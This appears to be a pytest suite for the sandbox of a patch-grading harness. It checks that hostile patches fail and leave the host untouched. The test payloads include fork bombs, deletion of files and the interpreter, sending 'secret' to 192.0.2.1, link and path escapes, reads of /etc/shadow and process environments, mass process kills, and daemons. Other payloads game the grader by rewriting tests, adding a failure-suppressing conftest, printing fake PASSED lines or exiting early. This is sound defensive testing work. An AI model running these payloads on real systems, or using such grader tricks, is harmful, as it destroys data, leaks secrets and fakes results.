"""Patches that mean harm: killed, refused or unresolved, and the machine as it was.

Each is graded like any other, by this user in each kind of walls it can build; the slow test at the end repeats it
all as an ordinary user where this one is root.
"""

import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
from dataclasses import replace
from pathlib import Path

import pytest

from srl.errors import UserError
from srl.evaluation.swe import sandbox as sandboxes
from srl.evaluation.swe.grading import SOURCES, grade
from srl.evaluation.swe.instances import Instance
from srl.evaluation.swe.predictions import Prediction
from srl.evaluation.swe.sandbox import Limits, Sandbox, find_sandbox, resident_bytes, why_not

KINDS = ("namespaces",) if os.geteuid() == 0 else ("namespaces", "bubblewrap")
LIMITS = Limits(
    seconds=20, cpu_seconds=10, memory_bytes=400 << 20, processes=24, disk_bytes=16 << 20, output_bytes=1 << 16
)
BUGGY = "def add(a, b):\n    return a - b\n"
FIXED = "def add(a, b):\n    return a + b\n"
TEST = "from calc import add\ndef test_add(): assert add(2, 2) == 4\ndef test_zero(): assert add(0, 0) == 0\n"


@pytest.fixture(params=KINDS)
def walls(request):
    if reason := why_not(request.param):
        pytest.skip(f"{request.param}: {reason}")
    return Sandbox(request.param)


@pytest.fixture
def package(tmp_path):
    tree = tmp_path / SOURCES / "calc-1"
    (tree / "tests").mkdir(parents=True)
    (tree / "calc.py").write_text(BUGGY)
    (tree / "tests" / "test_calc.py").write_text(TEST)
    return tmp_path


ADD, ZERO = "tests/test_calc.py::test_add", "tests/test_calc.py::test_zero"
INSTANCE = Instance("calc__1", "calc", "calc-1", "2 + 2 is 0", "", (ADD,), (ZERO,), tests=("tests",))


def diff(tmp_path, path, text):
    """The patch that gives a file of the package this text, or (None) deletes it."""
    folder = tmp_path / "diff"
    old = tmp_path / SOURCES / "calc-1" / path
    for side, content in (("a", old.read_text() if old.exists() else None), ("b", text)):
        (folder / side / path).parent.mkdir(parents=True, exist_ok=True)
        if content is not None:
            (folder / side / path).write_text(content)
    command = ["git", "diff", "--no-index", "--no-prefix", "a", "b"]
    made = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False).stdout
    shutil.rmtree(folder)
    return made


def graded(walls, package, *patches, limits=LIMITS):
    return grade(walls, INSTANCE, Prediction(INSTANCE.id, "".join(patches)), package, limits)


def hostile(walls, package, code):
    """Grade a patch that runs some code when the package is imported, and then works as it should."""
    return graded(walls, package, diff(package, "calc.py", textwrap.dedent(code) + FIXED))


def snapshot(folder):
    return {path.relative_to(folder): path.is_file() and path.read_bytes() for path in folder.rglob("*")}


def test_the_fix_resolves_and_nothing_does_not(walls, package):
    before = snapshot(package)
    right = graded(walls, package, diff(package, "calc.py", FIXED))
    assert (right.resolved, right.reason) == (True, "resolved"), right.log
    empty = graded(walls, package, "")
    assert (empty.resolved, empty.fail_to_pass) == (False, INSTANCE.fail_to_pass)
    assert empty.reason == "the bug is still there"
    assert snapshot(package) == before


def test_deleting_the_repository(walls, package):
    before = snapshot(package)
    python = Path(os.path.realpath(sys.executable)).stat()
    hostile(
        walls,
        package,
        f"""
        import os, shutil, sys
        for path in ("/box/tree", {str(package)!r}, os.path.realpath(sys.executable), os.__file__):
            shutil.rmtree(path, ignore_errors=True)
            try:
                os.remove(path)
            except OSError:
                pass
        """,
    )  # what is in memory already still works, which does no harm
    by_patch = graded(walls, package, diff(package, "calc.py", None))
    assert (by_patch.resolved, by_patch.reason) == (False, "the bug is still there, and other tests fail")
    assert snapshot(package) == before
    assert Path(os.path.realpath(sys.executable)).stat() == python


def test_forking_without_end(walls, package):
    started = time.monotonic()
    result = hostile(
        walls,
        package,
        """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """,
    )
    assert not result.resolved
    assert time.monotonic() - started < LIMITS.seconds + 15
    assert leftovers() == []


def leftovers():
    """Processes that still run in a tree of a sandbox."""
    time.sleep(0.2)
    found = []
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.readlink(f"/proc/{name}/cwd").startswith("/box"):
                found.append(name)
        except OSError:
            continue
    return found


def test_filling_the_disk(walls, package):
    before = shutil.disk_usage("/").free
    result = hostile(
        walls,
        package,
        """
        for n in range(100):
            with open(f"/tmp/{n}", "wb") as file:
                file.write(bytes(1 << 20))
        """,
    )
    assert not result.resolved
    assert "No space left on device" in result.log
    assert before - shutil.disk_usage("/").free < 1 << 30


def test_filling_the_memory_in_one_process(walls, package):
    result = hostile(walls, package, "x = bytearray(1 << 30)\n")
    assert not result.resolved
    assert "MemoryError" in result.log


def test_filling_the_memory_in_many_processes(walls, package):
    result = hostile(
        walls,
        package,
        """
        import os, time
        for n in range(8):
            if not os.fork():
                x = bytearray(os.urandom(1 << 20)) * 100
                time.sleep(60)
                os._exit(0)
        time.sleep(60)
        """,
    )
    assert (result.resolved, result.reason) == (False, "ended at the limit of memory")


def test_printing_a_gigabyte(walls, package):
    result = hostile(
        walls,
        package,
        """
        import os
        for n in range(1 << 14):
            os.write(1, bytes(1 << 16))
        """,
    )
    assert not result.resolved
    assert len(result.log) < 1 << 18


def test_printing_a_gigabyte_past_pytest(walls, package):
    """pytest keeps what tests print; a process with the sandbox's own descriptors does not ask it."""
    result = hostile(
        walls,
        package,
        """
        import os
        for fd in range(3, 64):
            try:
                for n in range(1 << 14):
                    os.write(fd, b"x" * (1 << 16))
            except OSError:
                pass
        """,
    )
    assert not result.resolved
    assert len(result.log) < 1 << 18


def test_opening_sockets(walls, package):
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        result = hostile(
            walls,
            package,
            f"""
            import socket
            socket.create_connection(("127.0.0.1", {server.getsockname()[1]}), timeout=5).sendall(b"secret")
            """,
        )
        assert not result.resolved
        with pytest.raises(TimeoutError):
            server.accept()


def test_sending_a_packet_abroad(walls, package):
    result = hostile(
        walls,
        package,
        """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("192.0.2.1", 53))
        """,
    )
    assert "Network is unreachable" in result.log


def test_escaping_by_a_symlink_of_the_patch(walls, package):
    """The link is made by one part of the patch, and the next part writes through it."""
    goal = package / "goal"
    goal.mkdir()
    new = "diff --git a/{0} b/{0}\nnew file mode {1}\n--- /dev/null\n+++ b/{0}\n@@ -0,0 +1 @@\n+{2}\n"
    link = new.format("out", 120000, goal) + "\\ No newline at end of file\n"
    through = new.format("out/x", 100644, "hi")
    result = graded(walls, package, link, through)
    assert (result.resolved, result.reason) == (False, "patch does not apply")
    assert list(goal.iterdir()) == []


def test_escaping_by_a_symlink_at_run_time(walls, package):
    goal = package / "goal"
    result = hostile(
        walls,
        package,
        f"""
        import os
        os.symlink({str(package)!r}, "out")
        open("out/goal", "w").write("hi")
        """,
    )
    assert not result.resolved
    assert not goal.exists()


def test_escaping_by_a_hard_link(walls, package):
    secret = package / "secret"
    secret.write_text("as it was")
    result = hostile(
        walls,
        package,
        f"""
        import os
        os.link({str(secret)!r}, "mine")
        open("mine", "w").write("changed")
        """,
    )
    assert not result.resolved
    assert secret.read_text() == "as it was"
    python = hostile(walls, package, "import os, sys\nos.link(os.path.realpath(sys.executable), 'mine')\n")
    assert "Invalid cross-device link" in python.log or "Operation not permitted" in python.log


@pytest.mark.parametrize("name", ["../goal", "../../goal", "/etc/goal", "tests/../../goal"])
def test_escaping_by_the_path_of_the_patch(walls, package, name):
    before = snapshot(package)
    patch = f"diff --git a/{name} b/{name}\nnew file mode 100644\n--- /dev/null\n+++ b/{name}\n@@ -0,0 +1 @@\n+hi\n"
    result = graded(walls, package, patch)
    # What leads through the tests is left out, as all that changes them is.
    assert result.reason == ("the bug is still there" if name.startswith("tests/") else "patch does not apply")
    assert snapshot(package) == before
    assert not os.path.exists("/etc/goal")


def test_killing_its_parent_and_everyone(walls, package):
    """By the numbers that they have inside and outside; the first process inside cannot be killed from there."""
    bystander = subprocess.Popen(["sleep", "60"])
    code = f"""
        import os
        for pid in ({bystander.pid}, {os.getpid()}, os.getppid(), 1, -1):
            try:
                os.kill(pid, 9)
            except OSError:
                pass
        assert os.getppid() == 1
        """
    assert hostile(walls, package, code).resolved
    assert bystander.poll() is None
    bystander.kill()
    bystander.wait()


def test_reading_the_environment_and_files_of_the_harness(walls, package, monkeypatch):
    monkeypatch.setenv("SRL_TEST_SECRET", "hush")
    (package / "key").write_text("hush")
    result = hostile(
        walls,
        package,
        f"""
        import os, glob
        found = str(dict(os.environ))
        files = ({str(package / "key")!r}, "/etc/shadow", "/etc/passwd")
        for path in (*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline"), *files):
            try:
                found += open(path, errors="replace").read()
            except OSError:
                pass
        assert "hush" not in found and "root:x:" not in found, "seen"
        assert not os.path.exists({str(package)!r}) and not os.path.exists("/home")
        """,
    )
    assert result.resolved, result.log  # it did no harm, and it works


def test_leaving_a_daemon(walls, package):
    result = hostile(
        walls,
        package,
        """
        import os, time
        if not os.fork():
            os.setsid()
            if not os.fork():
                for fd in range(64):
                    try:
                        os.close(fd)
                    except OSError:
                        pass
                time.sleep(3600)
            os._exit(0)
        """,
    )
    assert result.resolved, result.log
    assert leftovers() == []


def test_a_daemon_that_holds_the_pipes_ends_with_the_command(walls, package):
    started = time.monotonic()
    result = hostile(
        walls,
        package,
        """
        import os, signal, time
        if not os.fork():
            os.setsid()
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            time.sleep(3600)
            os._exit(0)
        """,
    )
    assert result.resolved, result.log
    assert time.monotonic() - started < LIMITS.seconds
    assert leftovers() == []


@pytest.mark.parametrize(
    "path", ["tests/test_calc.py", "tests/conftest.py", "conftest.py", "pytest.ini", "sitecustomize.py"]
)
def test_changing_the_tests_or_how_they_are_run(walls, package, path):
    text = "def test_add(): pass\ndef test_zero(): pass\n"
    if path == "pytest.ini":
        text = "[pytest]\naddopts = -k test_zero\n"
    elif path != "tests/test_calc.py":
        text = textwrap.dedent("""
            import _pytest.runner
            _pytest.runner.check_interactive_exception = None
            def pytest_runtest_makereport(item, call):
                from _pytest.reports import TestReport
                call.excinfo = None
                return TestReport.from_item_and_call(item, call)
            """)
    result = graded(walls, package, diff(package, path, text))
    assert (result.resolved, result.reason) == (False, "the bug is still there"), result.log


def test_changing_the_tests_at_run_time(walls, package):
    code = 'open("tests/test_calc.py", "w").write("def test_add(): pass")\n'
    result = graded(walls, package, diff(package, "calc.py", code + BUGGY))
    assert not result.resolved
    assert "Read-only file system" in result.log


def test_a_test_that_is_printed_as_passed_is_not(walls, package):
    code = 'import os\nfor fd in (1, 2):\n    os.write(fd, b"\\nPASSED tests/test_calc.py::test_add\\n")\n'
    assert not graded(walls, package, diff(package, "calc.py", code + BUGGY)).resolved


def test_leaving_early_is_no_success(walls, package):
    result = hostile(walls, package, "import os\nos._exit(0)\n")
    assert (result.resolved, result.reason) == (False, "ended before the last test (exit code 0)")


def test_becoming_root_of_a_namespace(walls, package):
    result = hostile(
        walls,
        package,
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        assert os.geteuid() != 0 and os.getuid() != 0
        assert libc.unshare(0x10000000) == -1, "a user namespace of its own"
        assert libc.mount(b"tmpfs", b"/box/tmp", b"tmpfs", 0, None) == -1, "a mount"
        assert libc.mount(None, b"/usr", None, 4096 | 32, None) == -1, "a mount that can be written"
        """,
    )
    assert result.resolved, result.log


@pytest.mark.parametrize(
    "patch", ["rubbish", "--- a/calc.py\n+++ b/calc.py\n@@ -1,2 +1,2 @@\n-def\n", "\0", "é" * 5000]
)
def test_malformed_patches_do_not_apply(walls, package, patch):
    result = graded(walls, package, patch)
    assert (result.resolved, result.reason) == (False, "patch does not apply")


def test_the_harness_killed_takes_the_sandbox_with_it(walls, package):
    code = f"""
        import sys
        from pathlib import Path
        from srl.evaluation.swe.sandbox import Sandbox
        Sandbox({walls.walls!r}).run([sys.executable, "-c", "import time; time.sleep(3600)"], Path({str(package)!r}))
        """
    harness = subprocess.Popen([sys.executable, "-c", textwrap.dedent(code)])
    while not leftovers():
        assert harness.poll() is None
    harness.send_signal(signal.SIGKILL)
    harness.wait()
    assert leftovers() == []


def test_what_is_ordered_by_addresses_is_the_same_each_time(walls, package):
    """A set with None in it: Python 3.11 hashes None by its address."""
    command = [sys.executable, "-c", "print([hash(None), {(None, n) for n in range(9)}])"]
    runs = [walls.run(command, package, environment={"PYTHONHASHSEED": "0"}).output for _ in range(3)]
    assert runs[0] == runs[1] == runs[2] != b""


def test_memory_of_a_family_is_counted():
    child = subprocess.Popen(
        [sys.executable, "-c", "import time; x = bytearray(b'1') * (64 << 20); print(flush=True); time.sleep(60)"],
        stdout=subprocess.PIPE,
    )
    child.stdout.readline()
    try:
        assert resident_bytes(child.pid) > 64 << 20
        assert resident_bytes(os.getpid()) > resident_bytes(child.pid)
    finally:
        child.kill()
        child.communicate()


def test_without_walls_patches_are_refused_unless_told(monkeypatch, package):
    monkeypatch.setattr(sandboxes, "why_not", lambda walls: "not here")
    with pytest.raises(UserError, match=r"namespaces: not here.*--allow-unsandboxed.*the network"):
        find_sandbox()
    walls = find_sandbox(allow_unsandboxed=True)
    assert walls.walls == "none"
    before = snapshot(package)
    assert graded(walls, package, diff(package, "calc.py", FIXED)).resolved
    assert not graded(walls, package, diff(package, "tests/test_calc.py", "def test_add(): pass\n")).resolved
    endless = diff(package, "calc.py", "while True: pass\n")
    assert graded(walls, package, endless, limits=replace(LIMITS, cpu_seconds=2)).reason.startswith("ended")
    assert snapshot(package) == before


@pytest.mark.slow
@pytest.mark.skipif(os.geteuid() != 0, reason="this user is an ordinary one already")
def test_all_of_this_as_an_ordinary_user(tmp_path_factory):
    """With a Python that this user can read, and the packages of this one."""
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    python = next(
        (f"{folder}/{version}" for folder in ("/usr/bin", "/usr/local/bin") if Path(folder, version).exists()), None
    )
    if python is None:
        pytest.skip(f"no {version} in /usr/bin or /usr/local/bin")
    with tempfile.TemporaryDirectory() as folder:
        os.chmod(folder, 0o777)
        subprocess.run([python, "-m", "venv", "--without-pip", f"{folder}/venv"], check=True)
        packages = [path for path in sys.path if path.endswith("site-packages")]
        paths = "\n".join([*packages, str(Path(sandboxes.__file__).parents[3])])
        Path(folder, "venv", "lib", version, "site-packages", "these.pth").write_text(paths)
        tests = Path(folder, Path(__file__).name)
        shutil.copy(__file__, tests)
        command = [f"{folder}/venv/bin/python", "-m", "pytest", "-q", "-n", "0", "-p", "no:cacheprovider", "-rs"]
        ended = subprocess.run(
            [*command, "--basetemp", f"{folder}/tmp", "-c", os.devnull, "--rootdir", folder, str(tests)],
            user=65534, group=65534, extra_groups=[], cwd=folder, capture_output=True, text=True, check=False,
            env={"PATH": os.defpath, "PYTHONDONTWRITEBYTECODE": "1", "HOME": folder},
        )  # fmt: skip
    assert ended.returncode == 0, ended.stdout + ended.stderr
    assert "namespaces: " not in ended.stdout, "root can build walls here, and this user cannot"
